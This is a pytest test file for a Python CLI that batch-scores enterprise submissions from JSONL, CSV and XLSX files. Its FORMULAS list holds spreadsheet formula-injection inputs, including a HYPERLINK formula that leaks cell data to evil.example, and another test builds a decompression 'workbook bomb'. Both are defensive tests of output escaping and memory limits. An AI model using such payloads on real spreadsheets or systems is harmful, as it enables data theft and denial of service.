"""greenfactory batch and impact, and the files they read and write: JSON lines, CSV, XLSX."""
from __future__ import annotations

import csv
import json
import shutil
import tracemalloc
from decimal import Decimal

import orjson
import pytest
from openpyxl import Workbook, load_workbook

from engine import parse_submission
from engine.testing import generate_submissions
from tools.cli import main
from tools.rows import flatten, read_rows, unflatten

from tests.bombs import SHEET_HEAD, workbook_bomb
from tests.support import ROOT

REF = "green-factory@2026.1"


@pytest.fixture(scope="module")
def policies(tmp_path_factory):
    """Only the two versions these tests use: every command loads its whole policy folder."""
    root = tmp_path_factory.mktemp("policies")
    for name in ("green-factory", "green-factory-js"):
        (root / name).mkdir()
        shutil.copy(ROOT / "policies" / name / "2026.1.yaml", root / name / "2026.1.yaml")
    shutil.copy(ROOT / "policies" / "published.json", root / "published.json")
    return root


@pytest.fixture
def run(capsys, policies):
    def call(*argv):
        code = main(["--policies", str(policies), *(str(a) for a in argv)])
        out, err = capsys.readouterr()
        return code, out, err
    return call


@pytest.fixture(scope="module")
def raws(catalog):
    rows = generate_submissions(catalog.get(REF).policy, 300, 17)
    rows[4] = {**rows[4], "data": {**rows[4]["data"], "carbon_intensity": -1}}  # intake refuses it
    rows[9] = {**rows[9], "enterprise": {**rows[9]["enterprise"], "sector": "no_such_sector"}}
    return rows


def write_jsonl(path, rows, broken_at=None):
    with path.open("wb") as handle:
        for i, raw in enumerate(rows):
            handle.write(orjson.dumps(raw) + b"\n")
            if i == broken_at:
                handle.write(b"{not json\n\n")


def cells_of(rows):
    flat = [flatten(r) for r in rows]
    columns = sorted(set().union(*flat))
    text = lambda v: "" if v is None else ("true" if v is True else "false" if v is False else v)  # noqa: E731
    return columns, [[text(f.get(c)) for c in columns] for f in flat]


def test_batch_scores_every_row_and_reports_the_bad_ones_by_line(tmp_path, raws, run):
    source = tmp_path / "in.jsonl"
    write_jsonl(source, raws, broken_at=10)
    code, _, err = run("batch", "--policy", REF, source, "-o", tmp_path / "out.jsonl", "--chunk", 128)
    assert code == 1 and "301 rows: 298 scored, 3 refused" in err
    records = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert [r["row"] for r in records] == list(range(1, 13)) + list(range(14, 303))  # line 12 broken, 13 blank
    refused = {r["row"]: r["issues"][0]["code"] for r in records if r["status"] == "refused"}
    assert refused == {5: "submission.data.range", 10: "submission.sector.unknown", 12: "submission.json.syntax"}
    assert all(r["score"] and r["rules"] for r in records if r["status"] == "scored")


@pytest.mark.slow
def test_the_column_and_single_engines_write_the_same_bytes(tmp_path, raws, run):
    source = tmp_path / "in.jsonl"
    write_jsonl(source, raws, broken_at=3)
    for fmt in ("jsonl", "csv"):
        outputs = []
        for engine in ("columns", "single"):
            out = tmp_path / f"{engine}.{fmt}"
            run("batch", "--policy", REF, source, "-o", out, "--engine", engine)
            outputs.append(out.read_bytes())
        assert outputs[0] == outputs[1], fmt


@pytest.mark.slow
def test_two_workers_write_the_same_bytes_as_one(tmp_path, raws, run):
    source = tmp_path / "in.jsonl"
    write_jsonl(source, raws, broken_at=150)  # with raws' two rows intake refuses
    for fmt in ("jsonl", "csv"):
        outputs = []
        for workers in (1, 2):
            out = tmp_path / f"{workers}.{fmt}"
            code, _, err = run("batch", "--policy", REF, source, "-o", out, "--workers", workers, "--chunk", 37)
            assert code == 1 and "301 rows: 298 scored, 3 refused" in err
            outputs.append(out.read_bytes())
        assert outputs[0] == outputs[1], fmt
    rows = [json.loads(line)["row"] for line in (tmp_path / "2.jsonl").read_bytes().splitlines()]
    assert rows == list(range(1, 153)) + list(range(154, 303))  # in file order; line 153 is the broken one


@pytest.mark.slow
def test_csv_and_xlsx_in_and_out(tmp_path, raws, catalog, run):
    columns, rows = cells_of(raws[:60])
    with (tmp_path / "in.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(columns)
        writer.writerows(rows)
    book = Workbook()
    sheet = book.active
    sheet.append(columns)
    for row in rows:
        sheet.append(row)
    book.save(tmp_path / "in.xlsx")
    write_jsonl(tmp_path / "in.jsonl", raws[:60])
    results = {}
    for name in ("in.csv", "in.xlsx", "in.jsonl"):
        out = tmp_path / f"{name}.out.xlsx"
        run("batch", "--policy", REF, tmp_path / name, "-o", out)
        book = load_workbook(out, read_only=True)
        table = list(book.worksheets[0].iter_rows(values_only=True))
        book.close()
        head = table[0]
        results[name] = [dict(zip(head, r)) for r in table[1:]]
    keyed = {name: [(r["status"], r["uscc"], r["score"]) for r in rows] for name, rows in results.items()}
    assert keyed["in.csv"] == keyed["in.xlsx"] == keyed["in.jsonl"]
    assert [r["row"] for r in results["in.csv"]] == list(range(2, 62))  # spreadsheet rows: the header is row 1
    cp = catalog.get(REF)
    for raw, read in zip(raws[:60], read_rows(tmp_path / "in.csv")):
        if raw is not raws[4] and raw is not raws[9]:
            assert parse_submission(cp.policy, read.raw).data == parse_submission(cp.policy, raw).data


def test_cells_become_a_submission(tmp_path):
    doc = unflatten([("period", "2025"), ("enterprise.region", 330212.0), ("data.carbon_intensity", "75.40"),
                     ("data.renewable_share", "0.1000000000000000000001"), ("facts.deregistered", "FALSE"),
                     ("facts.production_stopped_months", "0"), ("products.1.id", "coke"), ("products.0.id", "clinker"),
                     ("products.0.values.energy_intensity", "103.5"), ("cases.green_design_cases", "[]"),
                     ("evidence.pollutant_margin.wastewater.0.name", "a.pdf"), ("facts.note", "[free text]"),
                     ("data.land_productivity", "")])
    assert doc["enterprise"] == {"region": "330212"} and doc["period"] == "2025"
    assert doc["data"] == {"carbon_intensity": 75.4, "renewable_share": Decimal("0.1000000000000000000001")}
    assert doc["facts"] == {"deregistered": False, "production_stopped_months": 0, "note": "[free text]"}
    assert doc["products"] == [{"id": "clinker", "values": {"energy_intensity": 103.5}}, {"id": "coke"}]
    assert doc["cases"] == {"green_design_cases": []}
    assert doc["evidence"] == {"pollutant_margin.wastewater": [{"name": "a.pdf"}]}
    whole = unflatten([("submission", json.dumps({"period": "2024", "data": {"x": 1}})), ("data.y", "2")])
    assert whole == {"period": "2024", "data": {"x": 1, "y": 2}}
    with pytest.raises(ValueError):
        unflatten([("cases.green_design_cases", "two")])


def test_an_unknown_column_refuses_every_row_with_the_reason(tmp_path, run):
    (tmp_path / "in.csv").write_text("period,enterprise.colour\n2025,red\n2025,blue\n", encoding="utf-8")
    code, _, _ = run("batch", "--policy", REF, tmp_path / "in.csv", "-o", tmp_path / "out.jsonl")
    records = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert code == 1 and [(r["row"], r["issues"][0]["code"]) for r in records] == [
        (2, "submission.table.column"), (3, "submission.table.column")]


def test_an_unknown_policy_or_input_stops_the_run(tmp_path, run):
    assert run("batch", "--policy", "nope@1", tmp_path / "x.jsonl", "-o", tmp_path / "o.jsonl")[0] == 2
    code, _, err = run("batch", "--policy", REF, tmp_path / "missing.jsonl", "-o", tmp_path / "o.jsonl")
    assert code == 2 and "batch.file.unreadable" in err


@pytest.mark.slow
def test_impact_reports_and_its_movers_compare(tmp_path, raws, run):
    source = tmp_path / "in.jsonl"
    write_jsonl(source, raws[:120], broken_at=0)
    code, out, _ = run("impact", "--from", REF, "--to", "green-factory-js@2026.1", source, "--json",
                       "--movers", 3)
    report = json.loads(out)
    assert code == 0 and report["population"]["rows"] == 120 and len(report["movers"]) == 3
    assert report["population"]["unreadable"][0]["row"] == 2  # then a blank line: raws[i] is on line i + 3
    assert report["population"]["issues"][0]["row"] == 7
    mover = report["movers"][0]
    argv = mover["compare"].split()[1:]
    code, out, _ = run(*argv, "--json")
    assert code == 0 and json.loads(out)["score_delta"] == mover["delta"]
    code, text, _ = run("impact", "--from", REF, "--to", "green-factory-js@2026.1", source)
    assert code == 0 and "biggest movers" in text and "score delta" in text


@pytest.mark.slow
def test_a_sector_that_is_not_a_text_is_refused_not_a_crash(tmp_path, raws, run):
    rows = [dict(r, enterprise=dict(r["enterprise"])) for r in raws[:20]]
    rows[2]["enterprise"]["sector"] = ["cement"]
    rows[3]["enterprise"]["sector"] = {"id": "cement"}
    source = tmp_path / "in.jsonl"
    write_jsonl(source, rows)
    outputs = []
    for engine in ("columns", "single"):
        out = tmp_path / f"{engine}.jsonl"
        code, _, err = run("batch", "--policy", REF, source, "-o", out, "--engine", engine, "--workers", 1)
        assert code == 1 and "4 refused" in err and "internal error" not in err  # rows 5 and 10 are bad already
        outputs.append(out.read_bytes())
    assert outputs[0] == outputs[1]
    refused = {r["row"] for r in map(json.loads, outputs[0].decode().splitlines()) if r["status"] == "refused"}
    assert {3, 4} <= refused
    code, _, err = run("impact", "--from", REF, "--to", "green-factory-js@2026.1", source, "--quiet")
    assert "internal error" not in err and code in (0, 1)


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_batch_output_is_safe_to_open(tmp_path, raws, run):
    """Names that a spreadsheet would evaluate are written as text: an apostrophe first in CSV, a string cell in
    XLSX; numbers and numeric texts are written as before."""
    rows = [{**raw, "enterprise": {**raw["enterprise"], "name": name}} for raw, name in zip(raws[20:], FORMULAS)]
    write_jsonl(tmp_path / "in.jsonl", rows)
    assert run("batch", "--policy", REF, tmp_path / "in.jsonl", "-o", tmp_path / "out.csv")[0] == 0
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    assert [r["name"] for r in table] == ["'" + name for name in FORMULAS]
    assert [r["row"] for r in table] == [str(n) for n in range(1, 7)]
    assert all(Decimal(r["score"]) >= 0 and not r["score"].startswith("'") for r in table)
    assert run("batch", "--policy", REF, tmp_path / "in.jsonl", "-o", tmp_path / "out.xlsx")[0] == 0
    book = load_workbook(tmp_path / "out.xlsx")
    head = [c.value for c in book.active[1]]
    names = [row[head.index("name")] for row in book.active.iter_rows(min_row=2)]
    # an XML parser reads a carriage return as a line feed: the text is kept otherwise
    assert [(c.data_type, c.value) for c in names] == [("s", name.replace("\r", "\n")) for name in FORMULAS]
    numbers = [row[head.index("row")] for row in book.active.iter_rows(min_row=2)]
    assert [(c.data_type, c.value) for c in numbers] == [("n", n) for n in range(1, 7)]
    scores = [row[head.index("score")].value for row in book.active.iter_rows(min_row=2)]
    assert scores == [r["score"] for r in table]  # the same decimal text as in the CSV


@pytest.mark.slow
def test_batch_streams_a_workbook_that_unzips_to_millions_of_rows(tmp_path, run):
    """The batch takes files of any length from the operator: memory is bounded by reading a row at a time, not by a
    row limit. A million blank rows (6 MB of sheet in a small file) cost little; openpyxl took 150 MiB."""
    (tmp_path / "in.xlsx").write_bytes(workbook_bomb("xl/worksheets/sheet1.xml", SHEET_HEAD, b"<row/>",
                                                     b"</sheetData></worksheet>", 1_000_000))
    tracemalloc.start()
    try:
        code, _, err = run("batch", "--policy", REF, tmp_path / "in.xlsx", "-o", tmp_path / "out.csv", "--workers", 1, "-q")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (code, "0 rows" in err) == (0, True)
    assert peak < 100 * 1024 * 1024, f"{peak / 1024 / 1024:.0f} MiB"
